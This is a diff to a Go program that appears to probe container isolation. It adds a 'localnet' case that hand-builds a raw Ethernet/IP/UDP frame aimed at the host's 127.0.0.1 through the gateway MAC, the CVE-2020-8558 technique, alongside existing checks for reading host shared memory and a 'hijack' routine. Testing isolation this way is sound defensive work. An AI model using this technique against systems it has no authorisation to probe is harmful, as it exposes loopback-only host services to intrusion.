@@ -6,7 +6,9 @@
 package main
 
 import (
+	"encoding/binary"
 	"fmt"
+	"net"
 	"os"
 	"runtime"
 	"strconv"
@@ -63,6 +65,8 @@ func main() {
 			unix.Close(fd)
 		}
 		report("packet-socket", err)
+	case "localnet":
+		localnet(os.Args[2], os.Args[3])
 	case "shm":
 		// The host's SysV shared memory segment os.Args[2]: read it.
 		id, _ := strconv.Atoi(os.Args[2])
@@ -316,3 +320,61 @@ func hijack(host string, links []string) {
 }
 
 func htons(v uint16) uint16 { return v<<8 | v>>8 }
+
+// localnet sends, on eth0, a UDP datagram for 127.0.0.1:port in a frame
+// addressed to the gateway's MAC (the CVE-2020-8558 class): a host that
+// routes it (route_localnet on its bridge, no drop of 127.0.0.0/8 from
+// outside) hands it to a service bound to its own loopback.
+func localnet(gwMAC, port string) {
+	fail := func(err error) { report("localnet", err); os.Exit(0) }
+	ifc, err := net.InterfaceByName("eth0")
+	if err != nil {
+		fail(err)
+	}
+	addrs, _ := ifc.Addrs()
+	var src net.IP
+	for _, a := range addrs {
+		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil {
+			src = n.IP.To4()
+		}
+	}
+	dst, err := net.ParseMAC(gwMAC)
+	if err != nil || src == nil {
+		fail(unix.EINVAL)
+	}
+	p, _ := strconv.Atoi(port)
+	payload := []byte("from the box to the host's loopback")
+	udp := make([]byte, 8+len(payload))
+	binary.BigEndian.PutUint16(udp[0:], 40000)
+	binary.BigEndian.PutUint16(udp[2:], uint16(p))
+	binary.BigEndian.PutUint16(udp[4:], uint16(len(udp)))
+	copy(udp[8:], payload) // checksum 0: none, which IPv4 allows
+	ip := make([]byte, 20)
+	ip[0], ip[8], ip[9] = 0x45, 64, unix.IPPROTO_UDP
+	binary.BigEndian.PutUint16(ip[2:], uint16(20+len(udp)))
+	copy(ip[12:], src)
+	copy(ip[16:], net.IPv4(127, 0, 0, 1).To4())
+	var sum uint32
+	for i := 0; i < 20; i += 2 {
+		sum += uint32(binary.BigEndian.Uint16(ip[i:]))
+	}
+	for sum > 0xffff {
+		sum = sum&0xffff + sum>>16
+	}
+	binary.BigEndian.PutUint16(ip[10:], ^uint16(sum))
+	frame := append(append(append(append([]byte{}, dst...), ifc.HardwareAddr...), 0x08, 0x00), append(ip, udp...)...)
+	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
+	if err != nil {
+		fail(err)
+	}
+	defer unix.Close(fd)
+	to := &unix.SockaddrLinklayer{Ifindex: ifc.Index, Halen: 6}
+	copy(to.Addr[:], dst)
+	for i := 0; i < 3; i++ { // three, in case the first meets an ARP miss
+		if err = unix.Sendto(fd, frame, 0, to); err != nil {
+			break
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	report("localnet", err)
+}
